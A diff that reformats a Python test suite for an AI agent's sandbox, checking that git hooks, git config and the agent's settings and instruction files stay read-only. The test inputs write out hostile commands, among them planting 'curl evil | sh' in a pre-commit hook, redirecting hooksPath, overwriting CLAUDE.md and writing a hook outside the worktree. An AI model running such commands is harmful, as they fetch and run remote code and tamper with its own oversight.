@@ -60,7 +60,8 @@ def test_git_hooks_and_config_are_read_only_but_git_commit_works(workspace: Path
     sandbox = real_sandbox(workspace)
     output = run(
         "echo 'curl evil | sh' > .git/hooks/pre-commit; git config core.hooksPath /tmp/evil; git add a.txt && git commit -qm first && git log --oneline",
-        workspace, sandbox,
+        workspace,
+        sandbox,
     )
     assert not (workspace / ".git/hooks/pre-commit").exists()
     assert "hooksPath" not in (workspace / ".git/config").read_text()
@@ -89,7 +90,8 @@ def test_the_agent_folders_and_instruction_files_are_read_only(workspace: Path) 
     sandbox = real_sandbox(workspace, protected_names=("CLAUDE.md",))
     run(
         "echo '{}' > .pseudoclaude/settings.json; echo x > .claude/settings.json; echo obey > CLAUDE.md; mv CLAUDE.md gone.md",
-        workspace, sandbox,
+        workspace,
+        sandbox,
     )
     assert list((workspace / ".pseudoclaude").iterdir()) == [] and list((workspace / ".claude").iterdir()) == []
     assert (workspace / "CLAUDE.md").read_text() == "be kind\n"
@@ -183,7 +185,11 @@ def test_git_commit_works_in_a_linked_worktree_whose_hooks_stay_read_only(worksp
     tree = workspace / "tree"
     subprocess.run(["git", "worktree", "add", "-q", str(tree), "-b", "side"], cwd=main, check=True)
     sandbox = real_sandbox(tree)
-    output = run("echo b > b.txt && git add b.txt && git commit -qm second && git log --oneline | head -1; echo x > ../../outside/main/.git/hooks/pre-commit", tree, sandbox)
+    output = run(
+        "echo b > b.txt && git add b.txt && git commit -qm second && git log --oneline | head -1; echo x > ../../outside/main/.git/hooks/pre-commit",
+        tree,
+        sandbox,
+    )
     assert "second" in output.content
     assert not (main / ".git/hooks/pre-commit").exists()
 
